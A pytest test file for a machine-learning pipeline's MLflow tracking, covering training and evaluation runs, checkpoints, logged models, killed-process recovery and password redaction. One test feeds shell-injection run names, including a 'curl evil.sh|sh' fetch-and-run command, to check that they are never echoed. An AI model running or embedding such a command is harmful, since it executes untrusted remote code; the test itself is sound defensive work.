import ast
import errno
import hashlib
import json
import os
import shutil
import signal
import socket
from contextlib import AbstractContextManager, suppress
from dataclasses import replace
from pathlib import Path
from typing import Any

import mlflow
import pandas as pd
import pytest
import torch
from mlflow import MlflowClient
from mlflow.entities import LoggedModel, Run
from packaging.utils import canonicalize_name
from safetensors.torch import load_file

from pipeline.core import dvc_lock
from pipeline.core.errors import PipelineError
from pipeline.core.history import Record
from pipeline.core.source_code import imported_files
from pipeline.network import model_folder, weights
from pipeline.params import Params
from pipeline.stages.train import __main__ as train
from pipeline.stages.train.state import Job
from pipeline.tracking import (
    find_run,
    logged_model,
    process_lock,
    provenance,
    record,
    run_model,
    sqlite,
    store,
)
from pipeline.tracking import run as tracking_run
from pipeline.tracking.result import TrainedResult
from pipeline.tracking.run_names import TRAINED as LAST_CHECKPOINT
from tests import ROOT
from tests.builders.forks import Fork
from tests.builders.images import grey_png
from tests.builders.locks import STAGES, LockedRuns, write_project
from tests.builders.models import train_job
from tests.builders.params import NARROW_RESNET, override
from tests.builders.repositories import commit_all
from tests.builders.stores import copy_store
from tests.builders.training_runs import save_small_model, training_run


@pytest.fixture(scope="module")
def training_result(
    tmp_path_factory: pytest.TempPathFactory, striped_data: Path, params: Params
) -> tuple[Path, Job, list[Record]]:
    """A model folder, the job that trained it, and its epochs."""
    folder = tmp_path_factory.mktemp("trained")
    shutil.copytree(striped_data / "data", folder / "data")
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(folder)
        patch.setenv("DVC_ROOT", str(folder))
        job, card, history = train_job(folder / "data", override(params, **NARROW_RESNET))
        model_folder.save(folder / "models", job.network, card)
    return folder / "models", job, history


@pytest.fixture
def trained(
    dataset: Path,
    training_result: tuple[Path, Job, list[Record]],
    monkeypatch: pytest.MonkeyPatch,
) -> tuple[Job, list[Record]]:
    """A trained job and its epochs; models/ in the working directory is its model.

    Its logged form is small: `recorded` has the whole one.
    """
    folder, job, history = training_result
    shutil.copytree(folder, "models")
    monkeypatch.setattr(logged_model, "save_model", save_small_model)
    return job, history


@pytest.fixture(scope="module")
def whole_record(
    tmp_path_factory: pytest.TempPathFactory,
    training_result: tuple[Path, Job, list[Record]],
    striped_data: Path,
    empty_store: Path,
    params: Params,
) -> Path:
    """A folder with the record of a training and its evaluation, of the experiment tame-otter."""
    folder, (models, job, history) = tmp_path_factory.mktemp("record"), training_result
    shutil.copytree(striped_data / "data", folder / "data")
    shutil.copytree(models, folder / "models")
    copy_store(empty_store, folder)
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(folder)
        patch.setenv("DVC_ROOT", str(folder))
        patch.delenv("MLFLOW_TRACKING_URI", raising=False)
        patch.setenv("DVC_EXP_NAME", "tame-otter")
        patch.setenv("DVC_EXP_BASELINE_REV", "c0ffee")
        logged(params, job, history)
        evaluated(params, job, history)
    return folder


@pytest.fixture
def recorded(world: Path, whole_record: Path, monkeypatch: pytest.MonkeyPatch) -> Run:
    """The run of `whole_record`, to be read; its folder is the working directory."""
    monkeypatch.chdir(whole_record)
    monkeypatch.setenv("DVC_ROOT", str(whole_record))
    store.connect()
    (run,) = runs()
    return run


FINGERPRINT = "f" * 20


@pytest.mark.parametrize("name", ["x;curl evil.sh|sh", "`x`", "$(x)", "a\u202eb", "[x](http://x)"])
def test_a_run_offers_no_command_with_a_name_that_a_shell_obeys(name: str) -> None:
    text = record.describe_origin(name, "1f2e3d4")
    assert name not in text
    assert "`dvc exp show` lists it" in text


def test_a_run_offers_the_command_that_restores_its_experiment() -> None:
    assert record.describe_origin("bold-aunt", "1f2e3d4").endswith("`dvc exp apply bold-aunt`")
    assert record.describe_origin("", "1f2e3d4") == "`dvc repro` on commit `1f2e3d4`"


def training(params: Params) -> AbstractContextManager[tracking_run.Run]:
    """A training's run, in a world that may have no data."""
    split = Path("data/split.csv")
    if not split.exists():
        split.parent.mkdir(exist_ok=True)
        split.write_text("id,label,split,group\n")
    return training_run(params, FINGERPRINT, split)


def logged(params: Params, job: Job, history: list[Record]) -> None:
    with training(params) as run:
        for row in history:
            run.log_validation(row)
        run.log_checkpoint(job.suffix, LAST_CHECKPOINT)
        record.log_trained(run, Path("models"), history)


def outcome(params: Params, job: Job, history: list[Record]) -> TrainedResult:
    Path("test").mkdir(exist_ok=True)
    Path("test/samples.png").write_bytes(grey_png(1))
    figures = {
        "accuracy": 0.9,
        "recall.a class: (odd)": 0.5,
        "roc_auc.a class: (odd)": None,
        "recall.macro": 0.7,
        "accuracy.slice.small": 0.8,
        "n": 3,
        "correct": 2,
    }
    return TrainedResult(
        params.flat(),
        provenance.run_tags(FINGERPRINT),
        provenance.read_files(""),
        Path("models"),
        lambda: job.suffix,
        history,
        Path("augmented.png"),
        Path("data/split.csv"),
        figures,
        Path("test"),
        "<p>report</p>",
    )


def evaluated(params: Params, job: Job, history: list[Record]) -> None:
    record.record_evaluation(outcome(params, job, history))


def runs() -> list[Run]:
    return list(mlflow.search_runs(search_all_experiments=True, output_format="list"))


def models() -> list[LoggedModel]:
    places = [run.info.experiment_id for run in runs()]
    return list(mlflow.search_logged_models(experiment_ids=places, output_format="list"))


def test_one_run_holds_the_training_and_the_evaluation(
    recorded: Run, training_result: tuple[Path, Job, list[Record]], params: Params
) -> None:
    run, (_, _, history) = recorded, training_result
    assert run.info.run_name == "tame-otter"
    assert run.info.status == "FINISHED"
    assert run.data.params == {key: str(value) for key, value in params.flat().items()}
    assert run.data.tags["git.commit"] == "c0ffee"
    assert run.data.tags[provenance.MODELS] == dvc_lock.digest(Path("models"))
    sha256 = hashlib.sha256(Path("models/model.safetensors").read_bytes()).hexdigest()
    assert run.data.tags["model.sha256"] == sha256
    assert run.data.metrics["test/accuracy"] == 0.9
    losses = MlflowClient().get_metric_history(run.info.run_id, "curves/val_loss")
    assert [(m.step, m.value) for m in losses] == [(r.epoch, r.val_loss) for r in history]
    assert run.info.artifact_uri.startswith((Path.cwd() / "mlartifacts").as_uri())
    names = {file.path for file in MlflowClient().list_artifacts(run.info.run_id, "test")}
    assert names == {"test/samples.png"}


def test_a_run_on_other_images_than_the_data_sets_is_tagged(
    mlflow_db: None, params: Params
) -> None:
    with training(params):
        pass
    with training_run(params, "e" * 20, Path("data/split.csv"), "x.zip has 5 bytes"):
        pass
    tags = [run.data.tags.get(provenance.DEVIATION) for run in runs()]
    assert sorted(tags, key=str) == [None, "x.zip has 5 bytes"]


@pytest.mark.parametrize(
    ("which", "steps"), [("none", []), ("best", []), ("every", ["epoch_0001", "epoch_0002"])]
)
def test_mlflow_has_the_checkpoints_of_log_checkpoints(
    dataset: Path,
    params: Params,
    training_result: tuple[Path, Job, list[Record]],
    which: str,
    steps: list[str],
) -> None:
    trial_params = override(params, **NARROW_RESNET, train__epochs=2, train__log_checkpoints=which)
    Path("params.yaml").write_text(json.dumps(trial_params.model_dump()))
    shutil.copytree(training_result[0].parent / "data/features", dataset / "features")
    train.main(
        dataset / "clean",
        dataset / "split.csv",
        dataset / "features",
        Path("models"),
        Path("history.csv"),
        Path("augmented.png"),
    )
    (run,) = runs()
    files = MlflowClient().list_artifacts(run.info.run_id, "checkpoint")
    trained = ["trained"] if which != "none" else []
    assert [Path(file.path).stem for file in files] == [*steps, *trained]
    best = run.data.metrics["kept/val_loss"]
    losses = MlflowClient().get_metric_history(run.info.run_id, "curves/val_loss")
    assert best == min(metric.value for metric in losses)
    (picture,) = MlflowClient().list_artifacts(run.info.run_id, "train")
    assert picture.path == "train/augmented.png"
    if which != "none":
        place = mlflow.artifacts.download_artifacts(
            run_id=run.info.run_id, artifact_path="checkpoint/trained.safetensors"
        )
        whole = load_file("models/model.safetensors")
        suffix = load_file(place)
        assert sorted(value.shape for value in suffix.values()) == [(2,), (2, 256)]
        assert torch.equal(whole["fc.weight"], next(v for v in suffix.values() if v.ndim == 2))


def test_the_logged_model_predicts_batches_of_any_size(recorded: Run) -> None:
    (model,) = models()
    loaded = mlflow.pyfunc.load_model(model.model_uri)
    for count in (1, 2, 35):
        output = loaded.predict(
            pd.DataFrame({"image": [grey_png(200)] * (count - 1) + [b"no image"]})
        )
        assert list(output["problem"])[-1] == "not_an_image"
        assert len(output) == count


def test_weights_in_any_memory_format_can_be_a_checkpoint(mlflow_db: None, params: Params) -> None:
    suffix = torch.nn.Conv2d(3, 4, 3).to(memory_format=torch.channels_last)
    with training(params) as run:
        run.log_checkpoint(suffix, "trained")
    (file,) = MlflowClient().list_artifacts(runs()[0].info.run_id, "checkpoint")
    assert file.path == "checkpoint/trained.safetensors"


def test_an_evaluation_creates_a_missing_run(
    trained: tuple[Job, list[Record]], params: Params
) -> None:
    evaluated(params, *trained)
    (run,) = runs()
    assert run.data.metrics.keys() >= {"curves/val_loss", "test/accuracy"}
    assert len(models()) == 1


def test_the_model_has_the_test_figures_a_description_and_its_data_sets(
    recorded: Run, params: Params
) -> None:
    run = recorded
    (model,) = models()
    assert model.name == params.dataset.name
    assert model.tags["mlflow.note.content"] == run.data.tags["mlflow.note.content"]
    metrics = {metric.key: metric for metric in model.metrics or ()}
    assert metrics["test/accuracy"].value == run.data.metrics["test/accuracy"]
    entries = run.inputs.dataset_inputs if run.inputs else ()
    digests = {tag.value: entry.dataset.digest for entry in entries for tag in entry.tags}
    assert metrics["test/accuracy"].dataset_digest == digests["test"]
    assert metrics["curves/train_loss"].dataset_digest == digests["training"]
    assert metrics["curves/val_loss"].dataset_digest == digests["validation"]
    assert metrics["curves/lr"].dataset_name is None


def test_a_model_gets_the_figures_of_a_second_evaluation_once(
    trained: tuple[Job, list[Record]], params: Params
) -> None:
    first = outcome(params, *trained)
    assert record.record_evaluation(first)
    Path("test/samples.png").write_bytes(grey_png(2))
    second = replace(first, metrics={**first.metrics, "accuracy": 0.95})
    for _ in range(2):  # the second time, there is nothing to add
        assert record.record_evaluation(second)
        (run,) = runs()
        run_model.add_test_result(run.info.run_id)
    (model,) = models()
    figures = [metric for metric in model.metrics or () if metric.key == "test/accuracy"]
    figures.sort(key=lambda metric: metric.timestamp)
    assert [metric.value for metric in figures] == [0.9, 0.95]
    assert "Accuracy 0.9500" in model.tags["mlflow.note.content"]


def test_a_model_of_an_earlier_state_gets_no_run(
    trained: tuple[Job, list[Record]],
    params: Params,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """`dvc repro -f -s evaluate` after a change of what the model was trained with."""
    write_project(params)
    locked = LockedRuns()
    locked.run(*STAGES)
    commit_all("run")
    changed = override(params, train__lr=0.5)
    write_project(changed)
    assert not record.record_evaluation(outcome(changed, *trained))
    assert runs() == []
    error = capsys.readouterr().err
    assert "MLflow gets no run of this model" in error
    assert "(stages behind: train)" in error
    write_project(override(params, evaluate__samples=3))
    assert record.record_evaluation(outcome(override(params, evaluate__samples=3), *trained))
    assert len(runs()) == 1


def test_a_training_on_features_of_an_earlier_state_is_tagged(
    mlflow_db: None, params: Params, capsys: pytest.CaptureFixture[str]
) -> None:
    """`dvc repro -s train` after `dvc repro acquire`."""
    write_project(params)
    locked = LockedRuns()
    locked.run(*STAGES)
    commit_all("run")
    with training(params):
        pass
    assert provenance.STALE not in runs()[0].data.tags
    locked.run("acquire", version="2")
    with training_run(params, "e" * 20, Path("data/split.csv")):
        pass
    assert runs()[0].data.tags[provenance.STALE] == "filter split features"
    assert "stages behind: filter, split, features" in capsys.readouterr().err


def test_another_experiments_run_of_the_same_model_is_left_alone(
    trained: tuple[Job, list[Record]],
    params: Params,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("DVC_EXP_NAME", "first")
    logged(params, *trained)
    monkeypatch.setenv("DVC_EXP_NAME", "second")
    evaluated(params, *trained)
    is_evaluated = {run.info.run_name: "test/accuracy" in run.data.metrics for run in runs()}
    assert is_evaluated == {"first": False, "second": True}


@pytest.mark.parametrize(
    ("error", "status"), [(ValueError, "FAILED"), (KeyboardInterrupt, "KILLED")]
)
def test_the_status_of_a_run_is_that_of_its_training(
    mlflow_db: None, params: Params, error: type[BaseException], status: str
) -> None:
    with pytest.raises(error), training(params):
        raise error
    assert [run.info.status for run in runs()] == [status]


def test_an_unreachable_server_causes_one_warning(
    trained: tuple[Job, list[Record]],
    params: Params,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.setenv("MLFLOW_TRACKING_URI", "http://127.0.0.1:9")  # the discard port
    monkeypatch.setenv("MLFLOW_HTTP_REQUEST_MAX_RETRIES", "0")
    logged(params, *trained)
    output = capsys.readouterr().err
    assert output.count("warning: MLflow at http://127.0.0.1:9 fails") == 1
    assert "pipeline sync" in output


def kill_itself() -> None:
    os.kill(os.getpid(), signal.SIGKILL)


def create_run_and_die(client: MlflowClient, *arguments: Any, **options: Any) -> None:
    create_run(client, *arguments, **options)
    kill_itself()


create_run = MlflowClient.create_run


@pytest.mark.parametrize("moment", ["run created", "epoch logged"])
def test_a_killed_training_is_closed_by_the_next_start(
    trained: tuple[Job, list[Record]],
    params: Params,
    monkeypatch: pytest.MonkeyPatch,
    moment: str,
) -> None:
    def train_and_die() -> None:
        if moment == "run created":
            monkeypatch.setattr(MlflowClient, "create_run", create_run_and_die)
        with training_run(params, "e" * 20, Path("data/split.csv")) as run:
            run.log_validation(trained[1][0])
            run.set_tags({})
            kill_itself()

    assert Fork(train_and_die, ["train"], Path("output.txt")).wait() == -signal.SIGKILL
    store.connect()
    assert [run.info.status for run in runs()] == ["RUNNING"]
    logged(params, *trained)  # another training
    assert {run.data.tags[provenance.FINGERPRINT][0]: run.info.status for run in runs()} == {
        "e": "KILLED",
        "f": "FINISHED",
    }


def test_a_stopped_training_continues_in_its_run(
    trained: tuple[Job, list[Record]],
    params: Params,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    job, history = trained
    monkeypatch.setenv("DVC_EXP_NAME", "first")
    with suppress(KeyboardInterrupt), training(params) as begun:
        for row in history[:2]:
            begun.log_validation(row)
        begun.log_checkpoint(job.suffix, "epoch_0001")
        raise KeyboardInterrupt
    monkeypatch.setenv("DVC_EXP_NAME", "second")
    logged(params, job, history)
    evaluated(params, job, history)
    (run,) = runs()
    assert (run.info.run_name, run.info.status) == ("second", "FINISHED")
    for name in ("val_loss", "lr"):
        metrics = MlflowClient().get_metric_history(run.info.run_id, f"curves/{name}")
        values = [(record.epoch, getattr(record, name)) for record in history]
        assert [(metric.step, metric.value) for metric in metrics] == values
    files = {file.path for file in MlflowClient().list_artifacts(run.info.run_id, "checkpoint")}
    assert files == {"checkpoint/epoch_0001.safetensors", "checkpoint/trained.safetensors"}


@pytest.mark.parametrize("what", ["params", "fingerprint", "running"])
def test_only_a_stopped_run_of_the_same_training_is_resumed(
    mlflow_db: None, params: Params, what: str
) -> None:
    with pytest.raises(ZeroDivisionError), training(params):
        raise ZeroDivisionError
    (stopped,) = runs()
    if what == "params":
        params = override(params, evaluate__samples=3)
    if what == "running":
        MlflowClient().update_run(stopped.info.run_id, "RUNNING")
        MlflowClient().set_tag(stopped.info.run_id, provenance.HOST, "elsewhere")
    digest = "0" * 20 if what == "fingerprint" else FINGERPRINT
    with training_run(params, digest, Path("data/split.csv")):
        pass
    assert len(runs()) == 2


def test_a_run_whose_lock_was_deleted_is_closed_unless_another_machine_has_it(
    mlflow_db: None, params: Params
) -> None:
    """As `rm -rf .cache` deletes it; what runs elsewhere cannot be known."""
    for _ in range(2):
        with suppress(ZeroDivisionError), training(params):
            raise ZeroDivisionError
        shutil.rmtree(".cache/runs")
        (latest, *_) = runs()
        MlflowClient().set_tag(latest.info.run_id, provenance.FINGERPRINT, "e")
    here, elsewhere = runs()
    MlflowClient().set_tag(elsewhere.info.run_id, provenance.HOST, "elsewhere")
    for run in (here, elsewhere):
        MlflowClient().update_run(run.info.run_id, "RUNNING")
    lock = process_lock.ProcessLock(mlflow.get_tracking_uri())
    alive = MlflowClient().create_run(
        here.info.experiment_id, tags={**lock.tags, provenance.HOST: socket.gethostname()}
    )
    find_run.close_abandoned()
    lock.remove()
    status = {run.info.run_id: run.info.status for run in runs()}
    assert status[here.info.run_id] == "KILLED"
    assert status[elsewhere.info.run_id] == status[alive.info.run_id] == "RUNNING"


def test_an_incomplete_run_is_completed_without_duplicates(
    trained: tuple[Job, list[Record]], params: Params
) -> None:
    job, history = trained
    with training(params) as run:
        run.log_validation(history[0])
        run.set_tags({})
        run.id = None  # as after a failure to reach the server
    (begun,) = runs()
    assert begun.info.status == "RUNNING"
    evaluated(params, job, history)
    (whole,) = runs()
    assert whole.info.status == "FINISHED"
    losses = MlflowClient().get_metric_history(whole.info.run_id, "curves/val_loss")
    assert [metric.value for metric in losses] == [record.val_loss for record in history]
    assert len(models()) == 1
    before = whole.data.metrics
    evaluated(params, job, history)
    assert [run.data.metrics for run in runs()] == [before]


def test_the_data_sets_of_a_run_have_a_digest_per_split(recorded: Run, params: Params) -> None:
    inputs = recorded.inputs.dataset_inputs if recorded.inputs else []
    datasets = {item.tags[0].value: item.dataset for item in inputs}
    assert set(datasets) == {"training", "validation", "test"}
    assert {dataset.name for dataset in datasets.values()} == {params.dataset.name}
    assert len({dataset.digest for dataset in datasets.values()}) == 3
    counts = [
        sum(json.loads(str(dataset.profile))["images"].values()) for dataset in datasets.values()
    ]
    assert sum(counts) == 48


def test_metrics_are_in_sections(recorded: Run) -> None:
    run = recorded
    assert {name for name in run.data.metrics if name.startswith("test")} == {
        "test/accuracy",
        "test_details/correct",
        "test_details/n",
        "test_details/recall.macro",
        tracking_run.metric_name("test_classes/recall.a class: (odd)"),
        "test_slices/accuracy.slice.small",
    }
    note = run.data.tags["mlflow.note.content"]
    assert note.startswith("**Accuracy 0.9000** (2 of 3 test images of sample)")
    assert f"pipeline reproduce {run.info.run_id}" in note


def test_queued_experiments_are_nested_below_one_run(
    world: Path, mlflow_db: None, params: Params, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("DVC_EXP_BASELINE_REV", "c0ffee")
    (world / "aside").mkdir()
    monkeypatch.chdir(world / "aside")
    for name in ("one", "two"):
        monkeypatch.setenv("DVC_EXP_NAME", name)
        with training_run(params, name * 5, _no_split()):
            pass
    named_runs = {run.info.run_name: run for run in runs()}
    assert set(named_runs) == {"one", "two", "queue-c0ffee"}
    above = named_runs["queue-c0ffee"]
    assert above.info.status == "FINISHED"
    for name in ("one", "two"):
        assert named_runs[name].data.tags["mlflow.parentRunId"] == above.info.run_id


def test_a_parent_run_whose_creator_was_killed_is_closed(
    world: Path, mlflow_db: None, params: Params, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("DVC_EXP_BASELINE_REV", "c0ffee")
    monkeypatch.setenv("DVC_EXP_NAME", "one")
    (world / "aside").mkdir()
    monkeypatch.chdir(world / "aside")
    experiment = store.experiment_id(params.dataset.name)
    parent = MlflowClient().create_run(experiment, tags={"queue.commit": "c0ffee"})
    tags = find_run.parent_tags(params.dataset.name, provenance.source_tags())
    assert tags == {find_run.PARENT: parent.info.run_id}
    assert MlflowClient().get_run(parent.info.run_id).info.status == "FINISHED"


def _no_split() -> Path:
    path = Path("split.csv")
    path.write_text("id,label,split,group\n")
    return path


def test_system_metrics_are_logged(mlflow_db: None, params: Params) -> None:
    with training(params):
        pass
    (run,) = runs()
    assert "system/cpu_utilization_percentage" in run.data.metrics


def test_a_relative_database_path_is_relative_to_the_project(
    world: Path, params: Params, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("MLFLOW_TRACKING_URI", "sqlite:///mine.db")
    (world / "aside").mkdir()
    monkeypatch.chdir(world / "aside")
    assert not store.connect()
    assert mlflow.get_tracking_uri() == f"sqlite:///{world / 'mine.db'}"


@pytest.mark.parametrize(
    "address",
    ["postgresql://u:se/cret@h/db", "postgresql://h/db?user=u&password=cret", "http://a:cret@h"],
)
def test_the_address_of_the_store_has_no_password(
    world: Path, monkeypatch: pytest.MonkeyPatch, address: str
) -> None:
    monkeypatch.setattr(mlflow, "get_tracking_uri", lambda: address)
    assert store.address() in {"postgresql://h/db", "http://h"}


def test_no_message_has_a_password(
    world: Path,
    params: Params,
    monkeypatch: pytest.MonkeyPatch,
    capfd: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.setenv("MLFLOW_TRACKING_URI", "http://me:se@cret@127.0.0.1:9/x")
    monkeypatch.setenv("MLFLOW_HTTP_REQUEST_MAX_RETRIES", "0")
    store.connect()
    assert store.address() == "http://127.0.0.1:9/x"
    with training(params):
        pass
    output = "".join(capfd.readouterr())
    assert output.count("warning: MLflow at http://127.0.0.1:9/x fails") == 1
    assert "cret" not in output


def test_a_database_without_its_driver_does_not_stop_a_training(
    world: Path,
    params: Params,
    monkeypatch: pytest.MonkeyPatch,
    capfd: pytest.CaptureFixture[str],
) -> None:
    def opened(_: str) -> str:
        raise ModuleNotFoundError("No module named 'psycopg'")

    monkeypatch.setattr(store, "experiment_id", opened)
    with training(params) as run:
        run.set_tags({"nobody": "hears"})
    assert "fails (No module named 'psycopg'); the work goes on" in capfd.readouterr().err
    refused = pytest.raises(PipelineError, match=r"fails \(No module named 'psycopg'\)")
    with refused, store.errors_as_sentences():
        opened("")


@pytest.mark.parametrize(
    ("error", "message"),
    [
        (ModuleNotFoundError("No module named 'boto3'"), "No module named 'boto3'"),
        (Exception("no"), "Exception: no"),
    ],
)
def test_a_failing_artifact_store_does_not_stop_a_training(
    trained: tuple[Job, list[Record]],
    params: Params,
    error: Exception,
    message: str,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    def broken(*_: object) -> None:
        raise error

    with monkeypatch.context() as patch:
        patch.setattr(MlflowClient, "log_artifacts", broken)
        logged(params, *trained)
    assert f"fails ({message})" in capsys.readouterr().err
    assert [run.info.status for run in runs()] == ["FAILED"]
    evaluated(params, *trained)  # it is whole once the store is
    (run,) = runs()
    assert run.info.status == "FINISHED"
    assert run.data.tags[provenance.TEST]


def test_a_full_disk_costs_no_metrics(
    trained: tuple[Job, list[Record]],
    params: Params,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """Metrics wait up to a second to be sent together; the database may have room for them."""

    def refuse(*_: object) -> None:
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    logged(params, *trained)
    with monkeypatch.context() as patch:
        for name in ("log_artifact", "log_artifacts"):
            patch.setattr(MlflowClient, name, refuse)
        assert not record.record_evaluation(outcome(params, *trained))
    assert "fails (No space left on device)" in capsys.readouterr().err
    (run,) = runs()
    assert (run.info.status, run.data.metrics["test/accuracy"]) == ("FAILED", 0.9)
    assert record.record_evaluation(outcome(params, *trained))
    (run,) = runs()
    assert run.info.status == "FINISHED"
    assert len(MlflowClient().get_metric_history(run.info.run_id, "test/accuracy")) == 1


def test_an_open_run_of_another_process_is_not_changed(
    trained: tuple[Job, list[Record]], params: Params
) -> None:
    logged(params, *trained)
    (mine,) = runs()
    tags = {
        key: mine.data.tags[key]
        for key in (provenance.FINGERPRINT, provenance.COMMIT)
        if key in mine.data.tags
    }
    other = MlflowClient().create_run(mine.info.experiment_id, tags=tags)
    evaluated(params, *trained)
    assert MlflowClient().get_run(other.info.run_id).info.status == "RUNNING"
    assert provenance.TEST in MlflowClient().get_run(mine.info.run_id).data.tags


def test_different_class_names_give_different_metric_names() -> None:
    labels = ["a/", "a//b", "c++", "c##", "x" * 300, "x" * 301, "..", "plain one-2"]
    names = [tracking_run.metric_name(f"test_classes/recall.{label}") for label in labels]
    assert len(set(names)) == len(labels)
    assert names[-1] == "test_classes/recall.plain one-2"
    assert all(len(name) <= 250 and name.count("/") == 1 for name in names)


def test_the_lock_of_a_missing_run_is_removed(
    world: Path, mlflow_db: None, params: Params, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("MLFLOW_HTTP_REQUEST_MAX_RETRIES", "0")
    with training(params):
        pass
    for place in (mlflow.get_tracking_uri(), f"sqlite:///{world / 'none.db'}"):
        process_lock.ProcessLock(place).release()
    silent = process_lock.ProcessLock("http://127.0.0.1:9")
    silent.release()
    find_run.close_abandoned()
    assert [lock.name for lock in process_lock.abandoned_locks()] == [silent.name]
    assert not (world / "none.db").exists()


def test_artifacts_are_in_the_project_also_for_another_database(
    world: Path, empty_store: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    shutil.copy(empty_store / "mlflow.db", world / "mine.db")
    monkeypatch.setenv("MLFLOW_TRACKING_URI", f"sqlite:///{world / 'mine.db'}")
    (world / "aside").mkdir()
    monkeypatch.chdir(world / "aside")
    place = store.experiment_id("cats")
    where = MlflowClient().get_experiment(place).artifact_location
    assert where == (world / "mlartifacts/cats").as_uri()


def test_the_logged_model_requires_all_packages_that_it_imports(
    distributions: dict[str, list[str]],
) -> None:
    imported = set()
    for path in imported_files("pipeline.inference.mlflow_model"):
        for node in ast.walk(ast.parse((ROOT / path).read_text())):
            if isinstance(node, ast.Import):
                imported |= {alias.name.split(".")[0] for alias in node.names}
            elif isinstance(node, ast.ImportFrom) and node.module:
                imported.add(node.module.split(".")[0])
    needed = {
        canonicalize_name(name)
        for module in imported - {"pipeline"}
        for name in distributions.get(module, ())
    }
    required = {*logged_model.SERVING, *logged_model.WHERE_INSTALLED}
    beside = {
        "ruamel.yaml.clib",  # of the same names as another
        "pydantic-core",
        weights.WHEEL,
        "rich",  # for tables on a terminal, which serving does not print
        "filelock",  # on Windows, for files that serving does not write
    }
    assert needed <= {canonicalize_name(name) for name in required | beside}


def test_a_killed_process_leaves_no_partial_store_and_those_that_start_together_create_one(
    world: Path, params: Params, monkeypatch: pytest.MonkeyPatch
) -> None:
    def killed(*_: object) -> None:
        raise KeyboardInterrupt

    with monkeypatch.context() as patch:
        patch.setattr("mlflow.store.tracking.sqlalchemy_store.SqlAlchemyStore", killed)
        with pytest.raises(KeyboardInterrupt):
            sqlite.create_database(world / "mlflow.db")
    assert not (world / "mlflow.db").exists()

    def print_experiment() -> None:
        print(store.experiment_id("cats"))

    forks = [Fork(print_experiment, ["store"], Path(f"output{n}.txt")) for n in range(2)]
    experiments = {fork.finish().splitlines()[-1] for fork in forks}
    assert experiments == {"1"}
    with training(params):
        pass
    assert [run.info.status for run in runs()] == ["FINISHED"]
